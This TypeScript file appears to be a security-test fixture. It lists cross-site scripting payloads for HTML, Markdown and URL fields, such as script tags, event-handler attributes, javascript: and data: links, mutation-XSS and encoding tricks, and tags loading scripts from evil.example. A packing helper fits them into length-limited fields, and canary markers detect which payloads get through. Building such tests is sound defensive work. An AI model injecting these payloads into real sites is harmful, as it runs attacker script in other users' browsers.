/*
 * Texts of an attacker who wants them to run in another user's browser. Each calls `__owned()` or leaves markup with
 * `data-owned`, so that `damage` of `ownership.ts` finds what got through.
 */

/** Payloads that break out of the places in which a page shows text. */
const MARKUP = [
  '<b data-owned>x</b>',
  '"><b data-owned>x</b>',
  `'><b data-owned>x</b>`,
  '<script>__owned()</script>',
  '<ScRiPt>__owned()</sCrIpT>',
  '<script/src=//evil.example/owned.js></script>',
  '<scr<script>ipt>__owned()</scr</script>ipt>',
  '<img src=x data-owned onerror=__owned()>',
  '<img src="x" data-owned/onerror="__owned()"',
  '<img src=//evil.example/owned.png data-owned>',
  '<body data-owned onload=__owned()>',
  '<svg data-owned onload=__owned()>',
  '<svg><script>__owned()</script></svg>',
  '<svg><a data-owned xlink:href="javascript:__owned()"><text y=20>x</text></a></svg>',
  '<svg><animate data-owned onbegin=__owned() attributeName=x dur=1s>',
  '<details open data-owned ontoggle=__owned()>',
  '<input autofocus data-owned onfocus=__owned()>',
  '" autofocus data-owned onfocus=__owned() x="',
  `' autofocus data-owned onfocus=__owned() x='`,
  '<iframe data-owned src="javascript:parent.__owned()"></iframe>',
  '<iframe data-owned srcdoc="<script>parent.__owned()</script>"></iframe>',
  '<object data-owned data="data:text/html,<script>__owned()</script>"></object>',
  '<meta data-owned http-equiv=refresh content="0;url=//evil.example/">',
  '<base data-owned href="//evil.example/">',
  '<form data-owned action="javascript:__owned()"><button>Go</button></form>',
  '<link data-owned rel=stylesheet href="//evil.example/owned.css">',
  '<style>*{--owned:url(//evil.example/owned.css)}</style>',
  '<p data-owned style="background:url(//evil.example/owned.png)">x</p>',
  '<a data-owned href="javascript:__owned()">x</a>',
  '<a data-owned href=" &#14; java&#x0A;script:__owned()">x</a>',
  '<a data-owned href="data:text/html,<script>__owned()</script>">x</a>',
  '&lt;b data-owned&gt;x&lt;/b&gt;',
  '&#60;b data-owned&#62;x',
  '\\u003cb data-owned\\u003e',
  '%3Cb data-owned%3Ex%3C/b%3E',
  '\uff1cb data-owned\uff1e',
  '\u202e<b data-owned>x</b>\u202c',
  '<b\u000bdata-owned>x</b>',
  '<math><mtext><table><mglyph><style><!--</style><img data-owned src onerror=__owned()>',
  '<noscript><p title="</noscript><img data-owned src=x onerror=__owned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img data-owned src onerror=__owned()>',
  '<template><b data-owned>x</b></template>',
  '{{constructor.constructor("__owned()")()}}',
  '${__owned()}',
  '<%= __owned() %>',
  '#{__owned()}',
  "';__owned();//",
  '");__owned();//',
  '<!--><img data-owned src=x onerror=__owned()>-->',
  '</title><b data-owned>x</b>',
  '</textarea><b data-owned>x</b>',
  '</script><b data-owned>x</b>',
  '</style><b data-owned>x</b>',
  ']]><b data-owned>x</b>',
  '<!--',
  '<textarea>',
  '<plaintext>',
] as const;

/** Payloads for fields that are shown as Markdown. */
const MARKDOWN = [
  '[x](javascript:__owned())',
  '[x](JaVaScRiPt:__owned())',
  '[x](java&#x09;script:__owned())',
  '[x](&#106;avascript:__owned())',
  '[x](vbscript:__owned())',
  '[x](data:text/html;base64,PHNjcmlwdD5fX293bmVkKCk8L3NjcmlwdD4=)',
  '[x](<javascript:__owned()>)',
  '[x](https://example.com/"onmouseover="__owned())',
  '[x](https://example.com "t\\" data-owned onmouseover=\\"__owned()")',
  '![x](javascript:__owned())',
  '![x" onerror="__owned()](x)',
  '![x](//evil.example/owned.png)',
  '<javascript:__owned()>',
  '[x]: javascript:__owned()\n\n[x]',
  '`</code><b data-owned>x</b>`',
  '```"><b data-owned>x</b>\ncode\n```',
  '| a |\n| - |\n| <b data-owned>x</b> |',
  '# x {onclick=__owned() data-owned}',
  '[<img data-owned src=x onerror=__owned()>](https://example.com)',
  'https://example.com/"><b data-owned>x</b>',
] as const;

/** Payloads for URLs, where the field accepts any. */
export const URL_PAYLOADS = [
  'javascript:__owned()',
  'JaVaScRiPt:__owned()',
  ' javascript:__owned()',
  'java\tscript:__owned()',
  'data:text/html,<script>__owned()</script>',
  'vbscript:__owned()',
  '//evil.example/',
  'https://example.com/"onmouseover="__owned()',
  "https://example.com/'><b data-owned>x</b>",
  'https://example.com/?q=<script>__owned()</script>',
] as const;

/**
 * All payloads that fit, in as few texts as fit.
 *
 * @param characters - that the field takes
 * @param separator - between two in one text; a field of one line takes a space
 */
function pack(payloads: readonly string[], characters: number, separator: string): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter(({ length }) => length <= characters)) {
    const longer = texts.length === 0 ? payload : `${texts.at(-1)}${separator}${payload}`;
    if ([...longer].length <= characters && texts.length > 0) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}

/** For fields of one line. */
export function linePayloads(characters = 255): string[] {
  return pack(MARKUP, characters, ' ');
}

/** For Markdown: each as a paragraph, and some that only Markdown makes dangerous. */
export function markdownPayloads(characters = 4096): string[] {
  return pack([...MARKDOWN, ...MARKUP], characters, '\n\n');
}

/** Each payload by itself, to see that it would do harm. */
export const MARKUP_PAYLOADS: readonly string[] = MARKUP;
